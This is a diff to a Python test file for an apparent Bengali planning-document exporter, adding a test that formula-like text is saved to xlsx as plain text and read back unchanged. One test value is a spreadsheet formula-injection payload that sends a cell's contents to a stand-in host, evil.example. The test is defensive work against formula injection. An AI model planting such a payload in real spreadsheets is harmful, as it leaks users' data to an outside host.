@@ -126,3 +126,31 @@ def test_any_bengali_text_round_trips_through_openpyxl(activity, outcome):
     values = {v for row in rows(wb["কর্মপরিকল্পনা"]) for v in row}
     assert (activity or None) in values
     assert (outcome or None) in values
+
+
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"ক্লিক")',
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "#N/A",
+]
+
+
+@pytest.mark.parametrize("text", FORMULA_TEXTS)
+def test_it_writes_text_that_looks_like_a_formula_as_text(text):
+    from udbhabon.documents.reader import read_document
+
+    doc = load(SEEDS[1])
+    item = doc["sections"][0]["items"][2]
+    item["activity"], item["responsible"] = text, text
+    data = write_document(doc, "xlsx")
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type in {"f", "e"}]
+    assert text in {c.value for c in cells}
+    # and the reader takes the text back as it was typed
+    read = read_document(data, "plan.xlsx")
+    activities = [i.get("activity") for s in read["sections"] for i in s.get("items", [])]
+    assert text in activities
